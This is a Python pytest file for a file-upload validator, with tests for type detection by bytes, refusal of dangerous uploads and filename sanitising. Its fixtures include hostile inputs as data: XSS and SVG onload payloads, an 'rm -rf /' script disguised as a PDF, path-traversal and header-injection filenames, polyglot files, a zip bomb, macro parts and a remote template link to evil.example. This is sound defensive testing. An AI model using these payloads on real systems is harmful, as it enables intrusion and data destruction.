"""What a file is by its bytes, and what is never kept."""

from __future__ import annotations

import io
import zipfile

import pytest

from portal.files.rules import LIMIT_BYTES, MEMBERS_LIMIT, FileKind, Refusal, RefusedError, clean_name, recognise
from tests.factories.files import DOCX, JPEG, PDF, PNG, XLSX, office

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def packed(**members: bytes) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return whole.getvalue()


def bomb() -> bytes:
    """A small file that unpacks to more than 100 MB and says it is a document."""
    return office("word/document.xml", WORD, **{"word/media/image1.png": b"\x00" * (101 * 1024 * 1024)})


def many_members() -> bytes:
    return office("word/document.xml", WORD, **{f"word/{number}.xml": b"" for number in range(MEMBERS_LIMIT)})


def with_password() -> bytes:
    content = bytearray(DOCX)
    local, central = content.index(b"PK\x03\x04"), content.index(b"PK\x01\x02")
    content[local + 6] |= 1
    content[central + 8] |= 1
    return bytes(content)


@pytest.mark.parametrize(
    ("content", "kind"),
    [(PDF, FileKind.PDF), (PNG, FileKind.PNG), (JPEG, FileKind.JPEG), (DOCX, FileKind.DOCX), (XLSX, FileKind.XLSX)],
    ids=["pdf", "png", "jpeg", "docx", "xlsx"],
)
def test_recognise_what_is_kept(content: bytes, kind: FileKind) -> None:
    assert recognise(io.BytesIO(content)) is kind


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (b"", Refusal.EMPTY),
        (b"<!DOCTYPE html><script>alert(1)</script>", Refusal.UNKNOWN),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", Refusal.UNKNOWN),
        (b"<?xml version='1.0'?><svg/>", Refusal.UNKNOWN),
        (b"GIF89a" + b"\x00" * 50, Refusal.UNKNOWN),
        (b"MZ" + b"\x00" * 200, Refusal.UNKNOWN),
        (b"#!/bin/sh\nrm -rf /\n%PDF-1.7 %%EOF", Refusal.UNKNOWN),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, Refusal.UNKNOWN),
        (b"%PDF-1.7\nbroken off", Refusal.BROKEN),
        (PNG[:30], Refusal.BROKEN),
        (JPEG[:20], Refusal.BROKEN),
        (b"PK\x03\x04 not really a zip", Refusal.BROKEN),
        (DOCX[:-30], Refusal.BROKEN),
        (with_password(), Refusal.BROKEN),
        (packed(**{"evil.exe": b"MZ"}), Refusal.ACTIVE),
        (packed(**{"word/document.xml": b"<x/>"}), Refusal.UNKNOWN),
        (packed(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<x/>"}), Refusal.UNKNOWN),
        (office("word/document.xml", WORD, **{"word/vbaProject.bin": b"macro"}), Refusal.MACROS),
        (office("word/document.xml", WORD.replace("openxml", "openxml.macroEnabled")), Refusal.MACROS),
        (bomb(), Refusal.BOMB),
        (many_members(), Refusal.BOMB),
        (PDF.ljust(LIMIT_BYTES + 1, b"\n"), Refusal.TOO_LARGE),
    ],
    ids=[
        "empty", "html", "svg", "xml svg", "gif", "program", "script with a PDF inside", "old office", "half a pdf",
        "half a png", "half a jpeg", "zip by name", "half a docx", "password", "program in a zip", "no list of types",
        "undeclared document", "macros", "macro type", "bomb", "too many members", "too large",
    ],
)  # fmt: skip
def test_recognise_what_is_refused(content: bytes, refusal: Refusal) -> None:
    with pytest.raises(RefusedError) as refused:
        recognise(io.BytesIO(content))
    assert refused.value.refusal is refusal


@pytest.mark.parametrize(
    ("name", "kind", "expected"),
    [
        ("Бұйрық № 12.pdf", FileKind.PDF, "Бұйрық № 12.pdf"),
        ("order.PDF", FileKind.PDF, "order.pdf"),
        ("photo.JPEG", FileKind.JPEG, "photo.jpg"),
        ("page.html", FileKind.PDF, "page.html.pdf"),
        ("../../etc/passwd", FileKind.PDF, "passwd.pdf"),
        ("C:\\Users\\a\\order.docx", FileKind.DOCX, "order.docx"),
        ("a\u202efdp.exe", FileKind.PDF, "afdp.exe.pdf"),
        ('a"b;c<d>\r\nX-Evil: 1.pdf', FileKind.PDF, "a_b_c_d_X-Evil_ 1.pdf"),
        ("", FileKind.PNG, "file.png"),
        (".pdf", FileKind.PDF, "file.pdf"),
        ("...", FileKind.XLSX, "file.xlsx"),
        ("x" * 400 + ".pdf", FileKind.PDF, "x" * 116 + ".pdf"),
    ],
)
def test_clean_name_is_safe_and_ends_with_its_kind(name: str, kind: FileKind, expected: str) -> None:
    assert clean_name(name, kind) == expected


HTML = b"<!DOCTYPE html><script>alert(document.cookie)</script>"


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (PDF + packed(**{"page.html": HTML}), Refusal.ACTIVE),
        (b"%PDF-1.7\n" + HTML + PDF[9:], Refusal.ACTIVE),
        (PNG + packed(**{"page.html": HTML}), Refusal.ACTIVE),
        (PNG[:-12] + HTML + PNG[-12:], Refusal.ACTIVE),
        (JPEG[:-2] + b"\x00" * 1_048_570 + b"<ScRiPt>" + JPEG[-2:], Refusal.ACTIVE),
        (office("word/document.xml", WORD, **{"word/afchunk.html": HTML}), Refusal.ACTIVE),
        (office("word/document.xml", WORD, **{"word/activeX/activeX1.xml": b"<x/>"}), Refusal.MACROS),
        (office("word/document.xml", WORD, **{"xl/macrosheets/sheet1.xml": b"<x/>"}), Refusal.MACROS),
        (office("word/document.xml", WORD, **{"../../escape.xml": b"<x/>"}), Refusal.BROKEN),
        (office("word/document.xml", WORD, **{"WORD/document.xml": b"<other/>"}), Refusal.BROKEN),
        (
            office(
                "word/document.xml",
                WORD,
                **{
                    "word/_rels/settings.xml.rels": b'<Relationship Type="x/attachedTemplate" '
                    b'Target="https://evil.example/a.dotm" TargetMode="External"/>'
                },
            ),
            Refusal.ACTIVE,
        ),
    ],
    ids=[
        "pdf and archive", "pdf and page", "png and archive", "png and page", "page across chunks of a jpeg",
        "page in a document", "active control", "macro sheet", "way out of the archive", "part twice",
        "template from elsewhere",
    ],
)  # fmt: skip
def test_recognise_two_things_at_once_are_refused(content: bytes, refusal: Refusal) -> None:
    with pytest.raises(RefusedError) as refused:
        recognise(io.BytesIO(content))
    assert refused.value.refusal is refusal


def test_recognise_a_drawing_inside_a_document_is_no_page() -> None:
    assert recognise(io.BytesIO(office("word/document.xml", WORD, **{"word/media/i.svg": b"<svg/>"}))) is FileKind.DOCX
